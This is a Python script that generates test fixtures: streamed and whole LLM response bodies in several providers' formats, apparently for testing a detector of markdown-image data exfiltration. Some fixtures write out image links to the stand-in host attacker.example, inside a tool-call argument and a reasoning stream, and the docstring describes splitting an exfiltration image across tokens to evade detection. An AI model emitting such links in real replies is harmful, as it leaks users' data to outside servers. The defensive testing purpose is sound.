"""Write the example response bodies in this folder, in each provider's documented shape.

    python tests/data/streams/make_streams.py

The replies are in `replies.py`; the attack one splits an exfiltration image across
tokens and defines a reference image late. Tokens are cut reproducibly (seeded).
"""

from __future__ import annotations

import json
import random
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from replies import ATTACK, BAD_CITATION, GOOD_CITATION, HONEST

HERE = Path(__file__).parent


def tokens(text: str, seed: int) -> list[str]:
    rng, out, pos = random.Random(seed), [], 0
    while pos < len(text):
        step = rng.randint(1, 6)
        out.append(text[pos : pos + step])
        pos += step
    return out


def dumps(data: Any) -> str:
    return json.dumps(data, ensure_ascii=False, separators=(",", ":"))


def sse(events: Iterator[tuple[str | None, Any]], eol: str = "\n") -> str:
    out = []
    for name, data in events:
        lines = [f"event: {name}"] if name else []
        lines.append(f"data: {data if isinstance(data, str) else dumps(data)}")
        out.append(eol.join(lines) + eol + eol)
    return "".join(out)


def openai_chat() -> Iterator[tuple[str | None, Any]]:
    head = {"id": "chatcmpl-1", "object": "chat.completion.chunk", "created": 1, "model": "m"}
    for index in (0, 1):
        yield None, {**head, "choices": [{"index": index, "delta": {"role": "assistant",
                     "content": ""}, "finish_reason": None}]}  # fmt: skip
    pairs = zip(tokens(ATTACK, 1), tokens(HONEST, 2) + [""] * 400, strict=False)
    for attack, honest in pairs:
        for index, piece in ((0, attack), (1, honest)):
            if piece:
                choice = {"index": index, "delta": {"content": piece}, "finish_reason": None}
                yield None, {**head, "choices": [choice]}
    for index in (0, 1):
        yield None, {**head, "choices": [{"index": index, "delta": {}, "finish_reason": "stop"}]}
    yield None, {**head, "choices": [], "usage": {"prompt_tokens": 9, "completion_tokens": 90}}
    yield None, "[DONE]"


def openai_responses() -> Iterator[tuple[str | None, Any]]:
    seq = iter(range(1000))
    item = {"id": "msg_1", "type": "message", "role": "assistant", "status": "in_progress"}
    where = {"item_id": "msg_1", "output_index": 0, "content_index": 0}
    notes = [{"type": "url_citation", "url": url, "title": "t", "start_index": 0,
              "end_index": 4} for url in (GOOD_CITATION, BAD_CITATION)]  # fmt: skip
    part = {"type": "output_text", "text": ATTACK, "annotations": notes}
    response = {"id": "resp_1", "object": "response", "status": "in_progress", "output": []}

    def event(kind: str, **data: Any) -> tuple[str, Any]:
        return kind, {"type": kind, "sequence_number": next(seq), **data}

    yield event("response.created", response=response)
    yield event("response.output_item.added", output_index=0, item={**item, "content": []})
    yield event("response.content_part.added", **where, part={**part, "text": "",
                "annotations": []})  # fmt: skip
    for piece in tokens(ATTACK, 3):
        yield event("response.output_text.delta", **where, delta=piece)
    for index, note in enumerate(notes):
        yield event("response.output_text.annotation.added", **where, annotation_index=index,
                    annotation=note)  # fmt: skip
    yield event("response.output_text.done", **where, text=ATTACK)
    yield event("response.content_part.done", **where, part=part)
    done_item = {**item, "status": "completed", "content": [part]}
    yield event("response.output_item.done", output_index=0, item=done_item)
    yield event("response.completed", response={**response, "status": "completed",
                "output": [done_item]})  # fmt: skip


def anthropic() -> Iterator[tuple[str | None, Any]]:
    message: dict[str, Any] = {"id": "msg_1", "type": "message", "role": "assistant", "content": [],
               "model": "claude", "stop_reason": None, "usage": {"input_tokens": 9}}  # fmt: skip
    yield "message_start", {"type": "message_start", "message": message}
    yield "content_block_start", {"type": "content_block_start", "index": 0,
                                  "content_block": {"type": "text", "text": ""}}  # fmt: skip
    yield "ping", {"type": "ping"}
    for i, piece in enumerate(tokens(ATTACK, 4)):
        yield "content_block_delta", {"type": "content_block_delta", "index": 0,
                                      "delta": {"type": "text_delta", "text": piece}}  # fmt: skip
        if i == 5:
            for url in (GOOD_CITATION, BAD_CITATION):
                citation = {"type": "web_search_result_location", "url": url, "title": "t",
                            "cited_text": "c", "encrypted_index": "x"}  # fmt: skip
                yield "content_block_delta", {"type": "content_block_delta", "index": 0,
                    "delta": {"type": "citations_delta", "citation": citation}}  # fmt: skip
    yield "content_block_stop", {"type": "content_block_stop", "index": 0}
    tool = {"type": "tool_use", "id": "t1", "name": "search", "input": {}}
    yield "content_block_start", {"type": "content_block_start", "index": 1, "content_block": tool}
    yield (
        "content_block_delta",
        {
            "type": "content_block_delta",
            "index": 1,
            "delta": {
                "type": "input_json_delta",
                "partial_json": '{"q": "![x](https://attacker.example/"}',
            },
        },
    )
    yield "content_block_stop", {"type": "content_block_stop", "index": 1}
    yield "message_delta", {"type": "message_delta", "delta": {"stop_reason": "end_turn",
                            "stop_sequence": None}, "usage": {"output_tokens": 90}}  # fmt: skip
    yield "message_stop", {"type": "message_stop"}


def ai_sdk() -> Iterator[tuple[str | None, Any]]:
    yield None, {"type": "start", "messageId": "msg-1"}
    yield None, {"type": "start-step"}
    yield None, {"type": "reasoning-start", "id": "r1"}
    for piece in tokens("Thinking: ![t](https://attacker.example/t.png?x=1) done.", 5):
        yield None, {"type": "reasoning-delta", "id": "r1", "delta": piece}
    yield None, {"type": "reasoning-end", "id": "r1"}
    yield None, {"type": "text-start", "id": "text-1"}
    for piece in tokens(ATTACK, 6):
        yield None, {"type": "text-delta", "id": "text-1", "delta": piece}
    for i, url in enumerate((GOOD_CITATION, BAD_CITATION)):
        yield None, {"type": "source-url", "sourceId": f"s{i}", "url": url, "title": "t"}
    yield None, {"type": "text-end", "id": "text-1"}
    yield None, {"type": "finish-step"}
    yield None, {"type": "finish"}
    yield None, "[DONE]"


def plain() -> Iterator[tuple[str | None, Any]]:
    for piece in tokens(ATTACK, 7):
        yield None, piece.replace("\n", "\ndata: ")
    yield None, "[DONE]"


def ollama(kind: str) -> str:
    lines = []
    for piece in tokens(ATTACK, 8):
        body = {"message": {"role": "assistant", "content": piece}} if kind == "chat" else {
            "response": piece}  # fmt: skip
        lines.append({"model": "llama3", "created_at": "2026-11-29T10:00:00Z", **body,
                      "done": False})  # fmt: skip
    last = {"message": {"role": "assistant", "content": ""}} if kind == "chat" else {
        "response": ""}  # fmt: skip
    lines.append({"model": "llama3", "created_at": "2026-11-29T10:00:01Z", **last,
                  "done": True, "done_reason": "stop", "eval_count": 90})  # fmt: skip
    return "".join(dumps(line) + "\n" for line in lines)


def whole_bodies() -> dict[str, Any]:
    notes = [{"type": "url_citation", "url": u, "title": "t", "start_index": 0, "end_index": 1}
             for u in (GOOD_CITATION, BAD_CITATION)]  # fmt: skip
    return {
        "openai_chat.json": {"id": "chatcmpl-1", "object": "chat.completion", "created": 1,
            "model": "m", "choices": [{"index": 0, "message": {"role": "assistant",
            "content": ATTACK, "refusal": None}, "finish_reason": "stop"}],
            "usage": {"total_tokens": 99}},
        "openai_response.json": {"id": "resp_1", "object": "response", "status": "completed",
            "output": [{"id": "msg_1", "type": "message", "role": "assistant", "content": [
                {"type": "output_text", "text": ATTACK, "annotations": notes}]}]},
        "anthropic_message.json": {"id": "msg_1", "type": "message", "role": "assistant",
            "model": "claude", "content": [{"type": "text", "text": ATTACK, "citations": [
                {"type": "web_search_result_location", "url": u, "cited_text": "c"}
                for u in (GOOD_CITATION, BAD_CITATION)]}], "stop_reason": "end_turn"},
        "ollama_chat.json": {"model": "llama3", "message": {"role": "assistant",
            "content": ATTACK}, "done": True},
        "custom.json": {"status": "ok", "data": {"answer": ATTACK, "sources": [HONEST]}},
    }  # fmt: skip


def main() -> None:
    files = {
        "openai_chat.sse": sse(openai_chat()),
        "openai_chat_crlf.sse": sse(openai_chat(), "\r\n").replace(
            "data: [DONE]", ": keep-alive\r\nretry: 1000\r\nid: 7\r\ndata: [DONE]"),
        "openai_responses.sse": sse(openai_responses()),
        "anthropic.sse": sse(anthropic()),
        "ai_sdk.sse": sse(ai_sdk()),
        "plain.sse": sse(plain()),
        "ollama_chat.ndjson": ollama("chat"),
        "ollama_generate.ndjson": ollama("generate"),
    }  # fmt: skip
    files.update({name: json.dumps(body, indent=1) for name, body in whole_bodies().items()})
    for name, text in files.items():
        (HERE / name).write_text(text, encoding="utf-8", newline="")


if __name__ == "__main__":
    main()
